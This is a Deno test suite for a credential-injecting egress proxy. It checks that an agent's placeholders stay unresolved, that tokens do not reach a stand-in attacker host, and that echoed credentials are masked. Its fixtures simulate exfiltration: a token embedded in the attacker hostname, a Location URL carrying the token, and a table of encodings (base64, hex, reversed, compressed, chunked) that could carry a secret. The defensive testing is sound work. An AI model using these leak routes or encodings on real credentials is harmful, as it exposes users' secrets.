import { Buffer } from "node:buffer";
import assert from "node:assert/strict";
import zlib from "node:zlib";
import type { HttpAnswer } from "../support/http_answer.ts";
import { getFields, Http2Client } from "../support/http2_client.ts";
import { plainAnswer, type Respond } from "../support/recording_upstream.ts";
import { ALLOWED, ATTACKER, get, Scene, TOKEN_REF } from "./egress_scene.ts";

Deno.test("C4 a placeholder stays a placeholder: on the wrong host, and on the right one", async () => {
  await using scene = await Scene.start();
  scene.egress.reload([scene.route(), { host: ATTACKER }]);
  const placeholders = [TOKEN_REF, `\${${TOKEN_REF}}`, `Bearer ${TOKEN_REF}`, `$${TOKEN_REF}`];
  using theirs = await scene.egress.tunnel(`${ATTACKER}:443`);
  using own = await scene.tunnel();
  for (const placeholder of placeholders) {
    const field = `X-Placeholder: ${placeholder}`;
    await theirs.ask(get("/", [field, `Authorization: ${placeholder}`], ATTACKER));
    await own.ask(get("/", [field]));
  }
  scene.assertTokenKept();
  for (const [at, { headers }] of scene.attacker.requests.entries()) {
    assert.equal(headers.get("x-placeholder"), placeholders[at]);
  }
  for (const [at, { headers }] of scene.allowed.requests.entries()) {
    assert.equal(headers.get("x-placeholder"), placeholders[at]);
    assert.equal(headers.get("authorization"), `Bearer ${scene.token}`);
  }
});

Deno.test("C4 a wildcard's credential goes to the names it covers, not to an exact route's", async () => {
  await using scene = await Scene.start();
  scene.egress.reload([
    { host: "*.example.com", auth: { scheme: "Bearer", token_ref: TOKEN_REF } },
    { host: ALLOWED },
  ]);
  using client = await scene.tunnel();
  await client.ask(get("/"));
  assert.equal(scene.allowed.onlyRequest.headers.has("authorization"), false);
});

for (
  const [name, dlp] of [["looked at", {}], ["not looked at", {
    outbound_detectors: false,
  }]] as const
) {
  Deno.test(`C4 a credential of the agent's own in a query does not travel beside the route's, on a route that is ${name}`, async () => {
    await using scene = await Scene.start();
    const auth = { scheme: "header:x-goog-api-key", token_ref: TOKEN_REF };
    scene.egress.reload([{ host: ALLOWED, auth, dlp }]);
    using client = await scene.tunnel();
    for (const query of ["?key=foreign&alt=sse", "?alt=sse&%4bEY=foreign;access_token=foreign"]) {
      await client.ask(get(`/v1beta/models/m:generateContent${query}`));
    }
    assert.equal(scene.allowed.requests.length, 2);
    for (const { target, headers } of scene.allowed.requests) {
      assert.equal(target, "/v1beta/models/m:generateContent?alt=sse");
      assert.equal(headers.get("x-goog-api-key"), scene.token);
    }
  });
}

/** Forms in which an upstream could give a credential back; each from the credential alone. */
const FORMS: Readonly<Record<string, (secret: string) => string>> = {
  "as it is": (secret) => secret,
  "with its scheme": (secret) => `Bearer ${secret}`,
  "base64": (secret) => Buffer.from(secret).toString("base64"),
  "base64 of the header": (secret) => Buffer.from(`Bearer ${secret}`).toString("base64"),
  "base64 at the third alignment": (secret) => Buffer.from(`ab${secret}cd`).toString("base64"),
  "base64url": (secret) => Buffer.from(secret).toString("base64url"),
  "hexadecimal": (secret) => Buffer.from(secret).toString("hex"),
  "upper-case hexadecimal": (secret) => Buffer.from(secret).toString("hex").toUpperCase(),
  "percent-encoded": (secret) => Buffer.from(secret).toString("hex").replace(/../g, "%$&"),
  "reversed": (secret) => [...secret].reverse().join(""),
  "in JSON": (secret) => JSON.stringify({ headers: { authorization: secret } }),
};

/** What of a credential would be enough to rebuild it, in any of the forms above. */
function tracesOf(secret: string): string[] {
  return Object.values(FORMS).slice(0, 10).map((form) => form(secret).slice(4, -4));
}

function assertNoTrace(scene: Scene, answer: HttpAnswer | null): void {
  assert.ok(answer !== null);
  const seen = answer.head + answer.body.toString("latin1");
  for (const trace of tracesOf(scene.token)) {
    assert.ok(!seen.includes(trace), "the credential came back");
  }
}

/** The credential that a request carried. */
const secretOf = (headers: ReadonlyMap<string, string>) =>
  headers.get("authorization")!.replace("Bearer ", "");

for (const [name, form] of Object.entries(FORMS)) {
  Deno.test(`C8 a credential that is echoed ${name} is masked in headers, cookies and body`, async () => {
    await using scene = await Scene.start({
      respond: ({ headers }) => {
        const echoed = form(secretOf(headers));
        return plainAnswer(`before ${echoed} after`, [
          `X-Echo: ${echoed}`,
          `Set-Cookie: session=${echoed}; Path=/`,
          `Location: https://${ATTACKER}/?token=${echoed}`,
          `WWW-Authenticate: Bearer realm="${echoed}"`,
        ]);
      },
    });
    using client = await scene.tunnel();
    for (let request = 0; request < 2; request++) {
      const answer = await client.ask(get("/"));
      assertNoTrace(scene, answer);
      assert.match(String(answer?.body), /^before .*\*{20}.* after$/);
      assert.match(String(answer?.headers.get("x-echo")), /\*{20}/);
    }
  });
}

for (const size of [1, 2, 3, 7, 20]) {
  Deno.test(`C8 a credential split over chunks of ${size} bytes is masked`, async () => {
    await using scene = await Scene.start({
      respond: async ({ headers }, peer) => {
        await peer.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
        const body = `a${secretOf(headers)}b${Buffer.from(secretOf(headers)).toString("base64")}c`;
        for (let at = 0; at < body.length; at += size) {
          const piece = body.slice(at, at + size);
          await peer.write(`${piece.length.toString(16)}\r\n${piece}\r\n`);
          await new Promise((wake) => setTimeout(wake, 0));
        }
        await peer.write("0\r\n\r\n");
        return undefined;
      },
    });
    using client = await scene.tunnel();
    const answer = await client.ask(get("/"));
    assertNoTrace(scene, answer);
    assert.match(String(answer?.body), /^a\*+b.*\*+.*c$/);
  });
}

const CODINGS: Readonly<Record<string, (bytes: Buffer) => Uint8Array>> = {
  gzip: (bytes) => zlib.gzipSync(bytes),
  "x-gzip": (bytes) => zlib.gzipSync(bytes),
  deflate: (bytes) => zlib.deflateSync(bytes),
  br: (bytes) => zlib.brotliCompressSync(bytes),
  "gzip, br": (bytes) => zlib.brotliCompressSync(zlib.gzipSync(bytes)),
};
for (const [coding, encode] of Object.entries(CODINGS)) {
  Deno.test(`C8 a credential in a body coded as ${coding} is masked`, async () => {
    await using scene = await Scene.start({
      respond: ({ headers }) =>
        plainAnswer(encode(Buffer.from(`before ${secretOf(headers)} after`)), [
          `Content-Encoding: ${coding}`,
        ]),
    });
    using client = await scene.tunnel();
    for (let request = 0; request < 2; request++) {
      const answer = await client.ask(get("/", ["Accept-Encoding: gzip, deflate, br, zstd"]));
      assertNoTrace(scene, answer);
      assert.equal(answer?.headers.has("content-encoding"), false);
      assert.match(String(answer?.body), /^before \*+ after$/);
    }
  });
}

// zstd: the decoder that streams ends the process on damaged data (Deno 2.9), so it is not asked for.
for (const coding of ["zstd", "compress", "dcb", "gzip, gzip, gzip", "unknown"]) {
  Deno.test(`C8 a body coded as ${coding}, which cannot be read, is not passed on`, async () => {
    await using scene = await Scene.start({
      respond: () => plainAnswer("whatever", [`Content-Encoding: ${coding}`]),
    });
    using client = await scene.tunnel();
    scene.assertDenied(await client.ask(get("/")), "upstream_protocol");
  });
}

Deno.test("C8 a body that is not what its coding says is not passed on", async () => {
  await using scene = await Scene.start({
    respond: ({ headers }) => plainAnswer(secretOf(headers), ["Content-Encoding: gzip"]),
  });
  using client = await scene.tunnel();
  await client.send(get("/"));
  const bytes = await client.source.rest(5_000);
  assert.ok(!String(bytes).includes(scene.token));
});

Deno.test("C8 only codings that can be undone are asked for, and no ranges", async () => {
  await using scene = await Scene.start();
  using client = await scene.tunnel();
  await client.ask(get("/", [
    "Accept-Encoding: dcb, gzip;q=0.5, compress, br",
    "Range: bytes=0-3",
    'If-Range: "x"',
  ]));
  const { headers } = scene.allowed.onlyRequest;
  assert.equal(headers.get("accept-encoding"), "gzip;q=0.5, br");
  assert.equal(headers.has("range"), false);
  assert.equal(headers.has("if-range"), false);
});

Deno.test("C8 ranges pass where there is no credential to piece together", async () => {
  await using scene = await Scene.start({ routes: [{ host: ALLOWED }] });
  using client = await scene.tunnel();
  await client.ask(get("/", ["Range: bytes=0-3"]));
  assert.equal(scene.allowed.onlyRequest.headers.get("range"), "bytes=0-3");
});

Deno.test("C8 a credential in a trailer does not come through", async () => {
  await using scene = await Scene.start({
    respond: ({ headers }) =>
      "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n" +
      `2\r\nok\r\n0\r\nX-Echo: ${secretOf(headers)}\r\n\r\n`,
  });
  using client = await scene.tunnel();
  await client.send(get("/") + get("/next"));
  const bytes = await client.source.takeThrough("0\r\n\r\n", 5_000);
  assert.ok(!String(bytes).includes(scene.token));
  assert.ok(!/x-echo/i.test(String(bytes)));
  assert.equal((await client.answer())?.status, 200);
});

for (const status of ["400 Bad", "401 Who", "403 No", "404 None", "500 Broken", "503 Later"]) {
  Deno.test(`C8 a credential on an error page (${status}) is masked`, async () => {
    await using scene = await Scene.start({
      respond: ({ head }) => plainAnswer(`<pre>${head}</pre>`, ["Content-Type: text/html"], status),
    });
    using client = await scene.tunnel();
    const answer = await client.ask(get("/"));
    assert.equal(String(answer?.status), status.slice(0, 3));
    assertNoTrace(scene, answer);
    assert.match(String(answer?.body), /authorization: bearer \*+/i);
  });
}

Deno.test("C8 a credential in a reason phrase or an interim answer does not come through", async () => {
  await using scene = await Scene.start({
    respond: ({ headers }) =>
      `HTTP/1.1 103 Early Hints\r\nLink: <${secretOf(headers)}>\r\n\r\n` +
      `HTTP/1.1 200 ${secretOf(headers)}\r\nContent-Length: 0\r\n\r\n`,
  });
  using client = await scene.tunnel();
  await client.send(get("/", ["Connection: close"]));
  assert.ok(!String(await client.source.rest(5_000)).includes(scene.token));
});

Deno.test("C8 a credential in the name of a header does not come through", async () => {
  await using scene = await Scene.start({
    respond: ({ headers }) => plainAnswer("", [`X-${secretOf(headers)}: 1`]),
  });
  using client = await scene.tunnel();
  assertNoTrace(scene, await client.ask(get("/")));
});

Deno.test("C8 an answer to HEAD and one without a body are masked as well", async () => {
  await using scene = await Scene.start({
    respond: ({ headers, method }) =>
      method === "HEAD"
        ? `HTTP/1.1 200 OK\r\nContent-Length: 9\r\nX-Echo: ${secretOf(headers)}\r\n\r\n`
        : `HTTP/1.1 304 Not Modified\r\nETag: "${secretOf(headers)}"\r\n\r\n`,
  });
  using client = await scene.tunnel();
  assertNoTrace(scene, await client.ask(`HEAD / HTTP/1.1\r\nHost: ${ALLOWED}\r\n\r\n`));
  assertNoTrace(scene, await client.ask(get("/")));
});

Deno.test("C8 the same holds on HTTP/2", async () => {
  const respond: Respond = ({ headers, target }) => {
    const body = Buffer.from(`before ${secretOf(headers)} after`);
    return target === "/gzip"
      ? plainAnswer(zlib.gzipSync(body), ["Content-Encoding: gzip"])
      : plainAnswer(body, [`X-Echo: ${secretOf(headers)}`]);
  };
  await using scene = await Scene.start({ respond });
  using client = await Http2Client.start(await scene.tunnel(["h2"]));
  for (const [index, path] of ["/", "/gzip", "/"].entries()) {
    await client.request(2 * index + 1, getFields(ALLOWED, path));
    const { status, body, headerBytes } = await client.outcome(2 * index + 1);
    assert.equal(status, 200);
    assert.match(body, /^before \*+ after$/);
    // Answers' fields may be Huffman-coded: what a mask looks like then is known, the credential is not in it.
    assert.ok(!headerBytes.toString("latin1").includes(scene.token));
  }
});

Deno.test("C8 basic and header credentials are masked in the form in which they travel", async () => {
  for (const scheme of ["basic", "header:X-Key", "token"]) {
    await using scene = await Scene.start({
      respond: ({ head }) => plainAnswer(head),
    });
    scene.egress.reload([{ host: ALLOWED, auth: { scheme, token_ref: TOKEN_REF } }]);
    using client = await scene.tunnel();
    const answer = await client.ask(get("/"));
    assertNoTrace(scene, answer);
    const travels = scene.allowed.onlyRequest.head.match(/^(?:authorization|x-key): (.*)$/im)![1]!;
    assert.ok(!String(answer?.body).includes(travels.slice(-20)));
  }
});

Deno.test("C8 events hold no credential, wherever the agent or the upstream put it", async () => {
  await using scene = await Scene.start();
  scene.egress.reload([scene.route({ matches: [{ paths: [{ value: "/v1/" }] }] })]);
  using client = await scene.tunnel();
  await client.ask(get(`/v1/${scene.token}?${scene.token}`));
  await client.ask(get(`/admin/${scene.token}`));
  await scene.connect(`${scene.token}.${ATTACKER}:443`);
  assert.equal(scene.egress.events.length, 3);
  assert.ok(!JSON.stringify(scene.egress.events).includes(scene.token));
});
